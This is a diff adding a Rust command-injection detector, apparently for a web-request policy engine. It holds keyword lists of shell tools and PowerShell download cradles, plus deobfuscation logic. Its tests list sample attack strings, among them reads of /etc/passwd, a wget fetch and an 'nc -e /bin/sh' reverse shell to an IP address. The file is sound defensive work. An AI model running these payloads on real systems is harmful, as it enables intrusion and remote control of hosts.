@@ -1,0 +1,807 @@
+//! Command injection / RCE: shell separators followed by commands, command substitution,
+//! shell tricks (`${IFS}`, globbed paths, shellshock), Windows cmd and PowerShell, and
+//! server-side script runtimes (Node.js, Perl) reached through input.
+
+use crate::text::{find_any, find_any_word};
+use crate::{Ctx, Hit};
+
+/// Commands that are not ordinary English words: enough on their own at a command position.
+const COMMANDS: &[&str] = &[
+    "whoami",
+    "ifconfig",
+    "ipconfig",
+    "uname",
+    "wget",
+    "curl",
+    "chmod",
+    "chown",
+    "chgrp",
+    "nc",
+    "ncat",
+    "netcat",
+    "nohup",
+    "bash",
+    "sh",
+    "zsh",
+    "ksh",
+    "csh",
+    "tcsh",
+    "dash",
+    "busybox",
+    "python",
+    "python2",
+    "python3",
+    "perl",
+    "ruby",
+    "php",
+    "lua",
+    "node",
+    "telnet",
+    "ssh",
+    "scp",
+    "sftp",
+    "ftp",
+    "tftp",
+    "rsync",
+    "socat",
+    "nmap",
+    "ping",
+    "traceroute",
+    "nslookup",
+    "dig",
+    "passwd",
+    "useradd",
+    "usermod",
+    "userdel",
+    "sudo",
+    "su",
+    "crontab",
+    "systemctl",
+    "service",
+    "killall",
+    "pkill",
+    "kill",
+    "ps",
+    "netstat",
+    "ss",
+    "lsof",
+    "id",
+    "ls",
+    "cat",
+    "tac",
+    "nl",
+    "xxd",
+    "hexdump",
+    "od",
+    "base64",
+    "gzip",
+    "gunzip",
+    "bzip2",
+    "bunzip2",
+    "xz",
+    "unxz",
+    "tar",
+    "zip",
+    "unzip",
+    "7z",
+    "awk",
+    "gawk",
+    "sed",
+    "grep",
+    "egrep",
+    "fgrep",
+    "find",
+    "xargs",
+    "env",
+    "printenv",
+    "export",
+    "echo",
+    "printf",
+    "head",
+    "tail",
+    "less",
+    "more",
+    "vi",
+    "vim",
+    "nano",
+    "ed",
+    "cp",
+    "mv",
+    "rm",
+    "rmdir",
+    "mkdir",
+    "touch",
+    "ln",
+    "dd",
+    "mount",
+    "umount",
+    "strace",
+    "ltrace",
+    "gdb",
+    "tcpdump",
+    "iptables",
+    "lastlog",
+    "last",
+    "w",
+    "who",
+    "finger",
+    "history",
+    "alias",
+    "eval",
+    "exec",
+    "source",
+    "sleep",
+    "timeout",
+    "time",
+    "nice",
+    "chroot",
+    "docker",
+    "kubectl",
+    "ansible",
+    "ansible-playbook",
+    "ansible-galaxy",
+    "ansible-console",
+    "chef-shell",
+    "knife",
+    "puppet",
+    "salt",
+    "gcc",
+    "cc",
+    "make",
+    "cmake",
+    "java",
+    "javac",
+    "jexec",
+    "jrunscript",
+    "jshell",
+    "mysql",
+    "psql",
+    "sqlite3",
+    "mongo",
+    "redis-cli",
+    "openssl",
+    "certutil",
+    "bitsadmin",
+    "powershell",
+    "pwsh",
+    "cmd",
+    "wmic",
+    "reg",
+    "regsvr32",
+    "rundll32",
+    "mshta",
+    "cscript",
+    "wscript",
+    "schtasks",
+    "net",
+    "netsh",
+    "tasklist",
+    "taskkill",
+    "systeminfo",
+    "type",
+    "dir",
+    "del",
+    "copy",
+    "xcopy",
+    "start",
+    "call",
+    "set",
+    "at",
+    "lwp-download",
+    "lwp-request",
+    "lwp-mirror",
+    "ssh-copy-id",
+    "ssh-keygen",
+    "perf",
+    "apt",
+    "apt-get",
+    "yum",
+    "dnf",
+    "rpm",
+    "dpkg",
+    "pip",
+    "npm",
+    "gem",
+    "git",
+    "svn",
+    "mail",
+    "sendmail",
+    "mutt",
+    "xterm",
+    "screen",
+    "tmux",
+    "script",
+    "getent",
+    "groups",
+    "hostname",
+    "uptime",
+    "df",
+    "du",
+    "free",
+    "top",
+    "htop",
+    "whereis",
+    "which",
+    "locate",
+    "file",
+    "stat",
+    "readlink",
+    "realpath",
+    "md5sum",
+    "sha1sum",
+    "sha256sum",
+    "shred",
+    "wall",
+    "shutdown",
+    "reboot",
+    "halt",
+    "poweroff",
+    "init",
+    "mkfifo",
+    "mknod",
+    "setsid",
+    "disown",
+    "fg",
+    "bg",
+    "jobs",
+    "exit",
+    "logout",
+    "expect",
+    "tclsh",
+    "wish",
+    "awk",
+    "busybox",
+    "pkexec",
+    "doas",
+    "runuser",
+    "install",
+    "zcat",
+    "zgrep",
+    "bzcat",
+    "xzcat",
+    "lzcat",
+    "strings",
+    "objdump",
+    "readelf",
+    "nm",
+    "ldd",
+    "chattr",
+    "lsattr",
+    "getfacl",
+    "setfacl",
+    "iconv",
+    "column",
+    "cut",
+    "sort",
+    "uniq",
+    "wc",
+    "tee",
+    "tr",
+    "rev",
+    "fold",
+    "fmt",
+    "paste",
+    "join",
+    "split",
+    "csplit",
+    "diff",
+    "cmp",
+    "comm",
+    "patch",
+    "ip",
+    "route",
+    "arp",
+    "host",
+    "whois",
+    "write",
+    "talk",
+    "mesg",
+    "ionice",
+    "renice",
+    "watch",
+    "batch",
+    "aria2c",
+    "axel",
+    "fetch",
+    "links",
+    "lynx",
+    "w3m",
+    "elinks",
+    "irb",
+    "pry",
+    "php-cgi",
+    "runghc",
+    "ghci",
+    "rscript",
+    "octave",
+    "node.js",
+    "deno",
+    "bun",
+    "tftp",
+    "smbclient",
+    "rpcclient",
+    "wmiexec",
+    "psexec",
+    "mimikatz",
+    "msfconsole",
+    "msfvenom",
+    "sqlmap",
+];
+
+/// Commands that are also common words: need shell-looking arguments or a separator.
+const WORDY: &[&str] = &[
+    "time", "ping", "cat", "find", "top", "env", "more", "less", "last", "who", "w", "type", "set",
+    "at", "call", "start", "copy", "file", "head", "tail", "sort", "cut", "join", "split", "watch",
+    "write", "talk", "host", "install", "make", "echo", "kill", "free", "exit", "source", "alias",
+    "history", "mail", "script", "fetch", "links", "screen", "expect", "batch", "route", "column",
+    "patch", "strings", "groups", "locate", "which", "dir", "net", "service", "init", "nice",
+    "sleep", "timeout", "export", "eval", "exec", "id", "ls", "ps", "ss", "su", "ed", "nl", "od",
+    "dd", "ln", "cp", "mv", "rm", "df", "du", "tr", "wc", "ip", "nm", "cc", "reg", "del", "tee",
+    "rev", "fold", "fmt", "paste", "diff", "cmp", "comm", "uniq", "stat", "halt", "jobs", "fg",
+    "bg", "wish", "mesg", "git", "gem", "pip", "npm", "apt", "salt", "knife", "puppet", "docker",
+    "lynx", "perf", "php", "node", "java", "ruby", "python", "perl", "lua", "tac", "ftp", "ssh",
+    "nc", "sh",
+];
+
+fn is_sep(c: u8) -> bool {
+    matches!(
+        c,
+        b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b'(' | b'{' | b'$' | b'\0'
+    )
+}
+
+/// The command word at `i` (letters, digits, `-`, `_`, `.`), after an optional path prefix
+/// (`/bin/`, `/usr/bin/`) and quote-splitting tricks (`w'h'o'am'i`, `wh\oami`).
+fn command_at(lower: &str, i: usize) -> Option<(String, usize)> {
+    let b = lower.as_bytes();
+    let mut j = i;
+    // Path prefix.
+    if b.get(j) == Some(&b'/') {
+        let mut k = j;
+        while k < b.len()
+            && (b[k].is_ascii_alphanumeric()
+                || b[k] == b'/'
+                || b[k] == b'_'
+                || b[k] == b'-'
+                || b[k] == b'.')
+        {
+            k += 1;
+        }
+        let path = &lower[j..k];
+        if let Some(slash) = path.rfind('/')
+            && (path.starts_with("/bin/")
+                || path.starts_with("/usr/")
+                || path.starts_with("/sbin/"))
+        {
+            j += slash + 1;
+        }
+    }
+    let mut w = String::new();
+    let mut k = j;
+    while k < b.len() && w.len() < 32 {
+        let c = b[k];
+        if c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.') {
+            w.push(c as char);
+        } else if matches!(c, b'\'' | b'"' | b'\\')
+            && !w.is_empty()
+            && b.get(k + 1).is_some_and(|n| n.is_ascii_alphanumeric())
+        {
+            // Quote / backslash splitting inside a word.
+        } else {
+            break;
+        }
+        k += 1;
+    }
+    let w = w.trim_end_matches('.').to_string();
+    (!w.is_empty()).then_some((w, k))
+}
+
+/// Whether what follows a command word looks like shell arguments.
+fn shell_args(rest: &str) -> bool {
+    let r = rest.trim_start_matches([' ', '\t', '+']);
+    if r.is_empty() {
+        return true;
+    }
+    let first = r.as_bytes()[0];
+    if matches!(
+        first,
+        b'-' | b'/'
+            | b'~'
+            | b'$'
+            | b'<'
+            | b'>'
+            | b'|'
+            | b';'
+            | b'&'
+            | b'`'
+            | b'.'
+            | b'*'
+            | b'{'
+            | b'\''
+            | b'"'
+    ) {
+        return true;
+    }
+    let arg: String = r.chars().take_while(|c| !c.is_whitespace()).collect();
+    arg.contains('/')
+        || arg.contains('.')
+        || arg.contains('=')
+        || COMMANDS.contains(&arg.as_str()) && !WORDY.contains(&arg.as_str())
+}
+
+/// Undo shell quoting tricks that the shell itself removes: `c''at`, `c\\at`, `c$*at`,
+/// `c$@at`, `/bi[n]/sh` (one-character classes).
+fn deobfuscate(lower: &str) -> String {
+    let b = lower.as_bytes();
+    let mut out = Vec::with_capacity(b.len());
+    let mut i = 0;
+    while i < b.len() {
+        let c = b[i];
+        let next = b.get(i + 1).copied();
+        if (c == b'\'' || c == b'"') && next == Some(c) {
+            i += 2;
+            continue;
+        }
+        if c == b'$' && matches!(next, Some(b'*' | b'@' | b'!')) {
+            i += 2;
+            continue;
+        }
+        if c == b'\\' && next.is_some_and(|n| n.is_ascii_alphanumeric()) {
+            i += 1;
+            continue;
+        }
+        if c == b'['
+            && b.get(i + 2) == Some(&b']')
+            && next.is_some_and(|n| n.is_ascii_alphanumeric())
+        {
+            out.push(b[i + 1]);
+            i += 3;
+            continue;
+        }
+        out.push(c);
+        i += 1;
+    }
+    String::from_utf8_lossy(&out).into_owned()
+}
+
+/// Scan one value (and its shell-deobfuscated form).
+pub fn scan(orig: &str, lower: &str, ctx: Ctx) -> Option<Hit> {
+    if let Some(h) = scan_one(orig, lower, ctx) {
+        return Some(h);
+    }
+    let d = deobfuscate(lower);
+    if d != lower
+        && let Some(mut h) = scan_one(orig, &d, ctx)
+    {
+        h.at = h.at.min(lower.len());
+        h.strong = true;
+        return Some(h);
+    }
+    None
+}
+
+fn scan_one(_orig: &str, lower: &str, ctx: Ctx) -> Option<Hit> {
+    let b = lower.as_bytes();
+    if b.len() < 2 {
+        return None;
+    }
+    // Shellshock.
+    if let Some(p) = lower.find("() {")
+        && lower[p..].contains(';')
+    {
+        return Some(Hit::deny(
+            "rce.shellshock",
+            p,
+            "shellshock function definition",
+        ));
+    }
+    if let Some((p, _)) = find_any(
+        lower,
+        &[
+            "${ifs", "$ifs$", "$ifs ", "{ifs}", ":(){", ":|:&", "<<<", "$(", "${@", "${path:",
+            "${home:", "${shell", "${ps1", "${pwd", "$[", "<(", ">(",
+        ],
+    ) {
+        let after = &lower[p..];
+        if !(after.starts_with("$(")
+            && after[2..].starts_with(|c: char| c.is_ascii_digit() || c == ')' || c == '"'))
+        {
+            return Some(Hit::deny("rce.shell-syntax", p, "shell expansion syntax"));
+        }
+    }
+    // Backtick substitution with a command inside.
+    if let Some(p) = lower.find('`')
+        && let Some((w, _)) = command_at(lower, p + 1)
+        && COMMANDS.contains(&w.as_str())
+        && lower[p + 1..].contains('`')
+    {
+        return Some(Hit::deny(
+            "rce.substitution",
+            p,
+            "backtick command substitution",
+        ));
+    }
+    // Globbed sensitive paths: /e?c/p*sswd, /etc/[p]asswd.
+    for dir in [
+        "/etc/", "/bin/", "/usr/", "/proc/", "/e?c/", "/e*c/", "/???/", "/b??/", "/?in/",
+    ] {
+        if let Some(p) = lower.find(dir) {
+            let seg: String = lower[p..]
+                .chars()
+                .take(24)
+                .take_while(|c| !c.is_whitespace())
+                .collect();
+            if seg.contains(['?', '*', '[']) {
+                return Some(Hit::deny("rce.glob", p, "wildcard-obfuscated system path"));
+            }
+        }
+    }
+    // Command position: start of value or after a separator.
+    let mut i = 0;
+    let mut positions = 0;
+    while i < b.len() && positions < 256 {
+        let at_start = i == 0;
+        let after_sep = i > 0 && is_sep(b[i - 1]);
+        if at_start || after_sep {
+            let mut j = i;
+            while j < b.len() && matches!(b[j], b' ' | b'\t' | b'+') {
+                j += 1;
+            }
+            positions += 1;
+            if let Some((w, end)) = command_at(lower, j) {
+                let known = COMMANDS.contains(&w.as_str());
+                let wordy = WORDY.contains(&w.as_str());
+                let sep_char = if i > 0 { b[i - 1] } else { 0 };
+                // `curl/7.58.0` is a product token (User-Agent), not a command line.
+                let product = lower[end..].starts_with(['/', '=']);
+                if known && !product {
+                    let args = shell_args(&lower[end..]);
+                    let with_sep =
+                        after_sep && sep_char != b'(' && sep_char != b'{' && sep_char != b'$';
+                    if (!wordy
+                        && (with_sep || args)
+                        && !(at_start && lower[end..].trim().is_empty() && w.len() < 4))
+                        || (with_sep && args)
+                    {
+                        let strong = with_sep || lower[end..].contains(['/', '|', ';', '>', '<']);
+                        return Some(Hit {
+                            rule: "rce.command",
+                            strong,
+                            at: j,
+                            msg: "shell command",
+                        });
+                    }
+                }
+            }
+        }
+        i += 1;
+    }
+    // Windows cmd / PowerShell.
+    if let Some((p, _)) = find_any(
+        lower,
+        &[
+            "cmd /c",
+            "cmd.exe",
+            "cmd /k",
+            "command.com",
+            "powershell",
+            "pwsh ",
+            "invoke-expression",
+            "invoke-webrequest",
+            "invoke-restmethod",
+            "invoke-command",
+            "iex(",
+            "iex (",
+            "downloadstring(",
+            "downloadfile(",
+            "new-object net.webclient",
+            "net.webclient",
+            "start-process",
+            "%comspec%",
+            "frombase64string",
+            "-encodedcommand",
+            "set-content",
+            "get-content",
+            "wscript.shell",
+            "shell.application",
+            "certutil -",
+            "bitsadmin /",
+            "rundll32 ",
+            "regsvr32 /",
+            "mshta ",
+            "\\windows\\system32",
+            "c:\\windows",
+            "%systemroot%",
+            "%windir%",
+            "net user ",
+            "net localgroup",
+        ],
+    ) {
+        return Some(Hit::deny(
+            "rce.windows",
+            p,
+            "Windows shell / PowerShell command",
+        ));
+    }
+    if let Some((p, w)) = find_any_word(
+        lower,
+        &["iwr", "irm", "gci", "gc", "sal", "nal", "saps", "icm"],
+    ) {
+        let rest = lower[p + w.len()..].trim_start();
+        if rest.starts_with("http")
+            || rest.starts_with('-')
+            || rest.starts_with('$')
+            || (p > 0 && is_sep(b[p - 1]))
+        {
+            return Some(Hit::deny("rce.windows", p, "PowerShell alias"));
+        }
+    }
+    // cmd.exe batch syntax: FOR /F ... DO, IF ... == ... command, %VAR% expansions.
+    let folded = crate::text::fold(lower);
+    let f = folded.trim_start_matches([';', '&', '|', ' ', '@']);
+    if (f.starts_with("for /") || f.starts_with("for %"))
+        && (f.contains(" do ") || f.contains(")do "))
+    {
+        return Some(Hit::deny("rce.windows", 0, "cmd.exe FOR loop"));
+    }
+    if f.starts_with("if not defined ")
+        || f.starts_with("if not exist ")
+        || f.starts_with("if /i ")
+        || f.starts_with("if not {")
+        || f.starts_with("if errorlevel ")
+    {
+        return Some(Hit::deny("rce.windows", 0, "cmd.exe IF statement"));
+    }
+    if f.starts_with("if ")
+        && (f.contains("==")
+            || [
+                " equ ",
+                " neq ",
+                " lss ",
+                " leq ",
+                " gtr ",
+                " geq ",
+                " exist ",
+                "errorlevel",
+                " defined ",
+            ]
+            .iter()
+            .any(|k| f.contains(k)))
+        && (f.contains(" echo ")
+            || f.contains(" goto ")
+            || f.contains(" cmd")
+            || f.contains(" set ")
+            || f.contains("echo"))
+    {
+        return Some(Hit::deny("rce.windows", 0, "cmd.exe IF statement"));
+    }
+    if let Some(p) = f.find("%_")
+        && f[p + 1..].contains('%')
+        && (f.contains("set ") || f.contains(":~"))
+    {
+        return Some(Hit::deny("rce.windows", p, "cmd.exe variable expansion"));
+    }
+    // Node.js / Perl / mail-header injection reached through input.
+    if let Some((p, _)) = find_any(
+        lower,
+        &[
+            "child_process",
+            "process.mainmodule",
+            "process[mainmodule",
+            "require('child",
+            "require(\"child",
+            ".constructor.constructor",
+            "constructor[prototype]",
+            "[constructor][prototype]",
+            "__proto__",
+            "constructor.prototype",
+            "fromcharcode",
+            "process.binding",
+            "process.env",
+            "global.process",
+            "this.constructor",
+            "require('fs')",
+            "require(\"fs\")",
+            "execsync(",
+            "spawnsync(",
+            "@{[",
+            "\nrcpt to:",
+            "\nmail from:",
+            "\rrcpt to:",
+            "\rmail from:",
+            "\ndata\r",
+            "\nhelo ",
+            "\nehlo ",
+            "console.log(",
+            "console.info(",
+            "console.error(",
+            "console.warn(",
+            "setinterval(",
+            "settimeout(",
+            "function(){",
+            "=>{",
+            "new function(",
+            "vm.runin",
+            "module.exports",
+            "import(",
+            "process[\"",
+            "process['",
+            "_$$nd_func$$_",
+            "__class__",
+            "__mro__",
+            "__subclasses__",
+            "__globals__",
+            "__builtins__",
+            "__import__",
+            "{{config",
+            "{{self",
+            "{{request",
+            "lipsum.",
+            "cycler.",
+            "joiner.",
+        ],
+    ) {
+        return Some(Hit::deny(
+            "rce.runtime",
+            p,
+            "server-side script runtime access",
+        ));
+    }
+    if let Some(p) = lower.find("eval(") {
+        return Some(Hit::deny("rce.runtime", p, "eval call"));
+    }
+    let _ = ctx;
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use gavel_policy_sdk::views::InputKind;
+
+    fn hit(s: &str) -> Option<Hit> {
+        let l = s.to_ascii_lowercase();
+        scan(
+            s,
+            &l,
+            Ctx {
+                kind: &InputKind::QueryValue,
+            },
+        )
+    }
+
+    #[test]
+    fn attacks() {
+        for a in [
+            ";cat /etc/passwd",
+            "| whoami",
+            "$(id)",
+            "`uname -a`",
+            "a;wget http://x/y",
+            "x&&nc -e /bin/sh 1.2.3.4 4444",
+            "cat${IFS}/etc/passwd",
+            "/etc/[p]asswd",
+            "() { :;}; /bin/bash -c id",
+            "powershell -enc AAAA",
+            "nohup ifconfig",
+        ] {
+            assert!(hit(a).is_some(), "{a}");
+        }
+    }
+
+    #[test]
+    fn benign() {
+        for b in [
+            "time warner",
+            "ping pong tables",
+            "hello; time he came",
+            "environment",
+            "a hero; more than",
+            "The zip on my coat is stuck",
+            "user@example.com",
+            "Times & Schedule",
+        ] {
+            assert!(hit(b).is_none(), "{b}: {:?}", hit(b));
+        }
+    }
+}
